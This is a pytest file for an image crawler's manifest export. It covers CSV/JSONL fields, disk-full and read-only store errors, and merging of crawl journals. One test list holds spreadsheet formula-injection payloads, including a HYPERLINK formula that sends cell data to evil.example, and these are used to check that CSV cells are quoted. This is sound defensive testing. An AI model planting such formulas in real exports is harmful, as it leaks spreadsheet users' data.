"""The manifest: the default JSON Lines feed (one line per image, merged from each crawl's
journal), and the same fields as CSV with -o."""

from __future__ import annotations

import csv
import errno
import hashlib
import html
import json
import multiprocessing
import os
import random
import re
import shutil
import sqlite3
import subprocess
import threading
import time
import tracemalloc
from io import BytesIO, StringIO
from pathlib import Path

import pytest

from conftest import LocalSite, run_crawl
from test_errors import unprivileged
from imgcrawl.demo import make_image
from imgcrawl.merge import LocalManifest, merge_manifest
from imgcrawl.manifest import ManifestCsvItemExporter, ManifestFile, cut_torn_tail
from imgcrawl.settings import FEED_EXPORT_FIELDS



def test_manifest_jsonl_and_csv_have_the_documented_fields(demo_site, tmp_path):
    result = run_crawl(tmp_path, "-a", f"url={demo_site.url('/gallery/')}", "-o", "images.csv")
    assert result.returncode == 0, result.log[-3000:]
    lines = result.manifest()
    assert len(lines) == 19  # 18 photos + the broken one
    with open(tmp_path / "images.csv", newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        assert reader.fieldnames == FEED_EXPORT_FIELDS
        rows = {row["url"]: row for row in reader}
    for line in lines:
        assert set(line) <= set(FEED_EXPORT_FIELDS)
        row = rows[line["url"]]
        if line["status"] == "failed":
            assert set(line) == {"url", "page_url", "position", "alt", "title", "status", "reason"}
            assert row["reason"] == line["reason"] == "undecodable"
            assert row["path"] == row["sha256"] == ""
            continue
        assert set(line) == set(FEED_EXPORT_FIELDS) - {"reason", "near_duplicate_of"}  # no copies here
        assert len(line["phash"]) == 16 and row["phash"] == line["phash"] and row["near_duplicate_of"] == ""
        for name in ("url", "page_url", "alt", "status", "path", "sha256", "format"):
            assert row[name] == str(line[name]), name
        for name in ("width", "height", "bytes"):
            assert int(row[name]) == line[name] > 0
        assert (result.store / line["path"]).stat().st_size == line["bytes"]
        assert json.loads(row["thumbs"]) == line["thumbs"] == {"small": line["thumbs"]["small"]}


# Alt texts a hostile page might carry: each would run as a formula in a spreadsheet.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)"]


def test_csv_cells_that_start_a_formula_are_quoted_jsonl_kept_exact(tmp_path):
    rng = random.Random(5)
    imgs = "".join(f'<img src="/img/{n}.jpg" alt="{html.escape(alt)}">' for n, alt in enumerate(FORMULAS))
    imgs += '<img src="/img/t.jpg" alt="plain" title="=1+2">'  # a title too
    files = {"/g/": ("text/html", f"<html><body>{imgs}</body></html>".encode())}
    for name in [*map(str, range(len(FORMULAS))), "t"]:
        files[f"/img/{name}.jpg"] = ("image/jpeg", make_image(rng, "jpg", name))
    site = LocalSite(files).start()
    try:
        # Through the manifest storage: CSV rows go through ManifestFile as JSON lines do.
        result = run_crawl(tmp_path, "-a", f"url={site.url('/g/')}", "-o", "images.csv")
    finally:
        site.stop()
    assert result.returncode == 0, result.log[-3000:]
    lines = {line["url"].rsplit("/", 1)[1]: line for line in result.manifest()}
    with open(tmp_path / "images.csv", newline="", encoding="utf-8") as f:
        rows = {row["url"].rsplit("/", 1)[1]: row for row in csv.DictReader(f)}
    assert set(rows) == set(lines) == {f"{n}.jpg" for n in range(len(FORMULAS))} | {"t.jpg"}
    for n, alt in enumerate(FORMULAS):
        assert lines[f"{n}.jpg"]["alt"] == alt  # the manifest keeps what the page said
        assert rows[f"{n}.jpg"]["alt"] == "'" + alt  # the spreadsheet shows it as text
    assert (lines["t.jpg"]["title"], rows["t.jpg"]["title"]) == ("=1+2", "'=1+2")
    assert rows["t.jpg"]["alt"] == "plain"
    for row in rows.values():  # the other cells are untouched: numbers, URLs, JSON
        assert row["url"].startswith("http://") and int(row["width"]) > 0
        assert json.loads(row["thumbs"])["small"].startswith("thumbs/small/")


def test_csv_exporter_quotes_tab_and_carriage_return_starts_too():
    out = BytesIO()
    exporter = ManifestCsvItemExporter(out, fields_to_export=["alt", "title", "width", "url"])
    exporter.start_exporting()
    exporter.export_item({"alt": "\t=cmd", "title": "\r@x", "width": -1, "url": "https://a.example/-x.jpg"})
    exporter.finish_exporting()
    row = next(csv.DictReader(StringIO(out.getvalue().decode())))
    assert row == {"alt": "'\t=cmd", "title": "'\r@x", "width": "-1", "url": "https://a.example/-x.jpg"}


def read_only(store: Path, how: str) -> tuple[str, ...]:
    """A command prefix under which ``store`` cannot be written to: a read-only bind mount
    (EROFS), or a directory without write bits, unprivileged (EACCES)."""
    if how == "chmod":
        store.chmod(0o555)
        return unprivileged()
    wrapper = ("unshare", "--user", "--map-root-user", "--mount", "sh", "-c",
               'mount --bind "$0" "$0" && mount -o remount,bind,ro "$0" && exec "$@"', str(store))
    if not shutil.which("unshare") or subprocess.run([*wrapper, "true"]).returncode:
        pytest.skip("cannot make a read-only bind mount here")
    return wrapper


@pytest.mark.parametrize("how", ["bind-mount", "chmod"])
def test_read_only_store_with_a_half_written_manifest_one_line(demo_site, tmp_path, how):
    store = tmp_path / "store"
    store.mkdir()
    manifest = store / "manifest.jsonl"
    manifest.write_bytes(b'{"url": "https://a.example/1.jpg"}\n{"url": "https://a.example/2.j')
    manifest.chmod(0o444)
    before = manifest.read_bytes()
    try:
        result = run_crawl(tmp_path, "-a", f"url={demo_site.url('/gallery/')}", store=store,
                           wrapper=read_only(store, how))
    finally:
        store.chmod(0o755)
    errors = [line for line in result.log.splitlines() if " ERROR: " in line or " CRITICAL: " in line]
    assert len(errors) == 1, result.log[-3000:]
    assert f"cannot write to IMAGES_STORE {store} (" in errors[0] and "-s IMAGES_STORE=" in errors[0]
    assert "'finish_reason': 'store_not_writable'" in result.log and "Traceback" not in result.log
    assert not any(p.startswith("/img/") for p in demo_site.hits)
    assert manifest.read_bytes() == before  # left for a crawl that can write to cut it


def stored_urls(store: Path) -> set[str]:
    with sqlite3.connect(store / ".imgcrawl" / "index.sqlite") as db:
        return {url for (url,) in db.execute("SELECT url FROM images")}


def check_lines(store: Path, lines: list[dict]) -> None:
    """Every stored image a line names is on disk: original (by digest) and thumbnail."""
    for line in lines:
        if line["status"] != "failed":
            assert hashlib.sha256((store / line["path"]).read_bytes()).hexdigest() == line["sha256"], line
            assert all((store / thumb).is_file() for thumb in line["thumbs"].values()), line


def test_disk_full_with_the_manifest_in_the_store_one_line_and_whole_lines(demo_site, tmp_path):
    """The store and its manifest on a 300 KiB tmpfs (a private mount namespace): the crawl
    stops with one ERROR line, its journal holds whole lines about files that are on disk
    and stays pending (the merge had no room), and once there is room again the next crawl
    merges it with its own: one line per image."""
    if not shutil.which("unshare"):
        pytest.skip("needs unshare (util-linux) for a private tmpfs")
    small, full, retried = tmp_path / "small", tmp_path / "after-full", tmp_path / "after-retry"
    small.mkdir()
    # Crawl with the disk filling up, keep a copy of the store, make room, crawl again.
    script = (f'mount -t tmpfs -o size=300k tmpfs "$0" || exit 99; "$@"; cp -a "$0/store" {full}; '
              f'echo "=== crawl again ===" >&2; mount -o remount,size=20m "$0" && "$@"; cp -a "$0/store" {retried}')
    wrapper = ("unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script, str(small))
    if subprocess.run([*wrapper[:-2], "mount -t tmpfs tmpfs \"$0\"", str(small)]).returncode:
        pytest.skip("cannot mount a tmpfs in a user namespace here")
    result = run_crawl(tmp_path, "-a", f"url={demo_site.url('/gallery/')}", store=small / "store",
                       wrapper=wrapper)
    first, _, second = result.log.partition("=== crawl again ===")
    assert second, result.log[-3000:]

    errors = [line for line in first.splitlines() if " ERROR: " in line or " CRITICAL: " in line]
    assert len(errors) == 1, first[-3000:]
    assert f"IMAGES_STORE {small / 'store'} is full (" in errors[0]
    assert "Traceback" not in first and "'finish_reason': 'disk_full'" in first
    # Under load the disk may fill before the crawl's first line: then it has no journal.
    journals = list((full / "crawls" / "pending").glob("manifest-*.jsonl"))
    raw = journals[0].read_bytes() if journals else b""
    if journals:
        kept = small / "store" / "crawls" / "pending" / journals[0].name
        assert f"Manifest {small / 'store' / 'manifest.jsonl'} not updated (disk-full" in first
        assert f"this crawl's lines are kept in {kept} and the next crawl merges them" in first
    assert len(journals) <= 1 and not (raw and not raw.endswith(b"\n")) and b"\x00" not in raw, raw[-300:]
    lines = [json.loads(line) for line in raw.decode().splitlines()]
    check_lines(full, lines)
    downloaded = {line["url"] for line in lines if line["status"] == "downloaded"}
    indexed = stored_urls(full)
    assert downloaded <= indexed
    # An image stored while its line could not be written is counted, never silently missing.
    lost = re.search(r"'imgcrawl/manifest/lines_lost': (\d+)", first)
    assert len(indexed - downloaded) <= (int(lost.group(1)) if lost else 0), (indexed - downloaded, lost)
    if lost:  # and the summary says so, with what to do
        assert f"({lost.group(1)} lines not written: the next crawl writes them)" in first

    assert " ERROR: " not in second and "'finish_reason': 'finished'" in second, second[-3000:]
    lines = [json.loads(line) for line in (retried / "manifest.jsonl").read_text().splitlines()]
    check_lines(retried, lines)
    assert len(lines) == len({line["url"] for line in lines}) == 19  # one line per image
    assert {line["status"] for line in lines if not line["url"].endswith("broken.jpg")} <= {"downloaded", "uptodate"}
    assert not list((retried / "crawls" / "pending").glob("*.jsonl"))
    if raw:  # merged, and kept as history
        assert (retried / "crawls" / journals[0].name).read_bytes() == raw


def test_a_full_disk_met_by_the_manifest_first_is_the_stores_one_line(tmp_path, caplog):
    """The manifest's line can meet the full disk before any image does (the race above):
    the store's one line is said by whichever meets it first, never a second for the manifest."""
    from scrapy.utils.test import get_crawler  # noqa: PLC0415

    from imgcrawl.manifest import ManifestFileStorage  # noqa: PLC0415
    from imgcrawl.pipelines import GalleryImagesPipeline  # noqa: PLC0415

    store = tmp_path / "store"
    crawler = get_crawler(settings_dict={"IMAGES_STORE": str(store)})
    pipeline = GalleryImagesPipeline.from_crawler(crawler)
    manifest = ManifestFileStorage((store / "manifest.jsonl").as_uri(), crawler=crawler)
    full = OSError(errno.ENOSPC, "No space left on device")
    with caplog.at_level("INFO"):
        manifest.failed(full, 1)
        assert not pipeline.store_failures.report("disk-full", full)
    errors = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
    assert errors == [f"imgcrawl: IMAGES_STORE {store} is full (No space left on device): free some space "
                      "there or point the crawl at a bigger disk with -s IMAGES_STORE=/path/to/dir"]
    assert crawler.stats.get_value("imgcrawl/manifest/lines_lost") == 1


def test_manifest_journals_not_writable_in_a_writable_store_one_line(demo_site, tmp_path):
    """crawls/pending owned by someone else (say, an earlier crawl run as root): one line
    naming it, and the manifest left as it was."""
    store = tmp_path / "store"
    pending = store / "crawls" / "pending"
    pending.mkdir(parents=True)
    manifest = store / "manifest.jsonl"
    manifest.write_bytes(b'{"url": "https://a.example/1.jpg"}\n')
    pending.chmod(0o555)
    try:
        result = run_crawl(tmp_path, "-a", f"url={demo_site.url('/gallery/')}", store=store,
                           wrapper=unprivileged())
    finally:
        pending.chmod(0o755)
    errors = [line for line in result.log.splitlines() if " ERROR: " in line or " CRITICAL: " in line]
    assert len(errors) == 1, result.log[-3000:]
    assert f"cannot write the manifest {manifest} (Permission denied): give this user write permission" in errors[0]
    assert "'finish_reason': 'store_not_writable'" in result.log and "Traceback" not in result.log
    assert manifest.read_bytes() == b'{"url": "https://a.example/1.jpg"}\n'
    assert not list(pending.iterdir())


def test_torn_line_is_taken_back_only_while_it_is_the_end(tmp_path):
    path = tmp_path / "manifest.jsonl"
    path.write_bytes(b'{"a": 1}\n{"b": ')
    fd = os.open(path, os.O_RDWR | os.O_APPEND)
    try:
        cut_torn_tail(fd, b'{"b": ')
        assert path.read_bytes() == b'{"a": 1}\n'
        # Another crawl appended after the torn start: not ours to cut (repair_jsonl's job).
        os.write(fd, b'{"c": ')
        os.write(fd, b'{"d": 4}\n')
        cut_torn_tail(fd, b'{"c": ')
        assert path.read_bytes() == b'{"a": 1}\n{"c": {"d": 4}\n'
    finally:
        os.close(fd)


def test_manifest_file_writes_each_line_at_once(tmp_path):
    path = tmp_path / "manifest.jsonl"
    errors = []
    file = ManifestFile(os.open(path, os.O_RDWR | os.O_CREAT | os.O_APPEND), lambda *error: errors.append(error))
    file.write(b'{"a": 1}\n')
    assert path.read_bytes() == b'{"a": 1}\n'  # on disk before the feed is closed
    file.close()
    assert errors == [] and file.closed
    lost = ManifestFile(None, lambda *error: errors.append(error))  # could not be opened
    assert lost.write(b'{"b": 2}\n') == 9 and errors == [(None, 1)]  # a line lost, counted


# -- one line per image: merging ----------------------------------------------------------


def jl(url: str, page: str, position: int | None = None, **fields) -> bytes:
    record = {"url": url, "page_url": page, **({} if position is None else {"position": position}), **fields}
    return json.dumps(record).encode()


def test_merge_keeps_each_urls_latest_line_in_page_order():
    manifest = [jl("a1", "P1", 1, status="downloaded"), jl("a0", "P1", 0, status="downloaded"),
                jl("b0", "P2", 0, status="downloaded"), jl("gone", "P2", 1, status="downloaded"),
                jl("moved", "P2", 2, status="downloaded")]
    crawl = [
        jl("b0", "P2", 0, status="uptodate"),
        jl("c0", "P3", 0, status="downloaded") + b"\r\n",  # CRLF and str lines are lines too
        jl("a1", "P1", 1, status="uptodate").decode(),
        b"{\"url\": \"torn", b"[1, 2]", b'{"url": 7}', b"", b"  \n",
        jl("old-style", "P1", status="downloaded"),  # no position: after those with one
        jl("moved", "P3", 1, status="uptodate"),  # found on another page now
    ]
    bad = []
    merged = list(merge_manifest([manifest, crawl], on_bad_line=lambda *b: bad.append(b)))
    assert merged == [line + b"\n" for line in (
        jl("a0", "P1", 0, status="downloaded"), jl("a1", "P1", 1, status="uptodate"),
        jl("old-style", "P1", status="downloaded"),
        jl("b0", "P2", 0, status="uptodate"), jl("gone", "P2", 1, status="downloaded"),
        jl("c0", "P3", 0, status="downloaded"), jl("moved", "P3", 1, status="uptodate"),
    )]
    assert bad == [(1, b"{\"url\": \"torn"), (1, b"[1, 2]"), (1, b'{"url": 7}')]
    # Merging a merged manifest gives it back; an empty merge is empty.
    assert list(merge_manifest([merged])) == merged
    assert list(merge_manifest([[], []])) == []


def test_merge_memory_stays_bounded_however_many_lines(tmp_path):
    """40,000 lines of 1 KB (40 MB) through the merge: Python's peak stays a few MB (the lines
    wait in the scratch SQLite file, which is gone afterwards)."""
    def lines(crawl: str):
        for n in range(20_000):
            yield jl(f"https://x.example/{n}.jpg", f"https://x.example/p/{n // 40}", n % 40,
                     status=crawl, alt="x" * 900)

    tracemalloc.start()
    try:
        count = sum(1 for _ in merge_manifest([lines("downloaded"), lines("uptodate")],
                                                              scratch_dir=tmp_path))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert count == 20_000
    assert peak < 4 * 1024 * 1024, f"{peak / 1e6:.1f} MB"
    assert list(tmp_path.iterdir()) == []


def write_journal(manifest: LocalManifest, lines: list[bytes]) -> tuple[int, Path]:
    fd, path = manifest.open_journal()
    for line in lines:
        os.write(fd, line + b"\n")
    return fd, path


def test_merge_takes_ended_journals_and_leaves_running_ones(tmp_path):
    manifest = LocalManifest(tmp_path / "manifest.jsonl")
    fd, finished = write_journal(manifest, [jl("a", "P", 0)])
    os.close(fd)
    # A crawl killed mid-line: its journal is no longer locked, and ends in half a line.
    fd, killed = write_journal(manifest, [jl("b", "P", 1)])
    os.write(fd, jl("c", "P", 2)[:9])
    os.close(fd)
    running, still_running = write_journal(manifest, [jl("d", "P", 3)])  # its crawl holds the lock
    report = manifest.merge()
    assert [json.loads(line)["url"] for line in manifest.path.read_bytes().splitlines()] == ["a", "b"]
    assert report.journals == [manifest.history / finished.name, manifest.history / killed.name]
    assert report.cut == [killed] and report.images == 2
    assert (manifest.history / killed.name).read_bytes() == jl("b", "P", 1) + b"\n"
    assert sorted(manifest.pending.iterdir()) == [still_running]
    os.close(running)  # that crawl ends: the next merge takes it
    assert manifest.merge().journals == [manifest.history / still_running.name]
    assert [json.loads(line)["url"] for line in manifest.path.read_bytes().splitlines()] == ["a", "b", "d"]
    # Another manifest in the same directory keeps its journals to itself.
    other = LocalManifest(tmp_path / "manifest-b.jsonl")
    os.close(write_journal(other, [jl("x", "P", 0)])[0])
    assert manifest.merge().journals == [] and other.merge().images == 1
    # overwrite (FEEDS "overwrite": True): the newest journal alone makes the manifest.
    os.close(write_journal(manifest, [jl("e", "P", 0)])[0])
    manifest.merge(overwrite=True)
    assert manifest.path.read_bytes() == jl("e", "P", 0) + b"\n"


def test_a_reader_never_sees_half_a_manifest(tmp_path):
    """While a merge rewrites a 20,000-line manifest, every read of the file is one whole
    manifest, the old one or the new one."""
    manifest = LocalManifest(tmp_path / "manifest.jsonl")
    manifest.path.write_bytes(b"".join(jl(f"u{n}", "P", n, alt="x" * 200) + b"\n" for n in range(20_000)))
    os.close(write_journal(manifest, [jl(f"new{n}", "Q", n) for n in range(100)])[0])
    merging = threading.Thread(target=manifest.merge)
    seen = set()
    merging.start()
    deadline = time.monotonic() + 30
    while merging.is_alive() and time.monotonic() < deadline:
        data = manifest.path.read_bytes()
        assert data.endswith(b"\n")
        seen.add(data.count(b"\n"))
    merging.join(timeout=30)
    assert seen <= {20_000, 20_100} and manifest.path.read_bytes().count(b"\n") == 20_100
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def _merge_at_once(path: Path, worker: int, barrier, rounds: int) -> None:
    manifest = LocalManifest(path)
    for n in range(rounds):
        fd, _ = write_journal(manifest, [jl(f"w{worker}-r{n}-{i}", f"P{worker}", i) for i in range(50)])
        barrier.wait(timeout=30)
        os.close(fd)  # the crawl ends, and merges
        manifest.merge()


def test_two_workers_merging_at_once_lose_no_line(tmp_path):
    """Two processes sharing a store finish at the same moment (a barrier), twenty times, over
    a manifest big enough that their merges would overlap: every line of both is kept."""
    path = tmp_path / "manifest.jsonl"
    path.write_bytes(b"".join(jl(f"u{n}", "P", n, alt="x" * 200) + b"\n" for n in range(3_000)))
    context = multiprocessing.get_context("fork")
    barrier = context.Barrier(2)
    workers = [context.Process(target=_merge_at_once, args=(path, w, barrier, 20)) for w in range(2)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(timeout=60)
    assert [worker.exitcode for worker in workers] == [0, 0]
    urls = [json.loads(line)["url"] for line in path.read_bytes().splitlines()]
    assert len(urls) == len(set(urls)) == 3_000 + 2 * 20 * 50
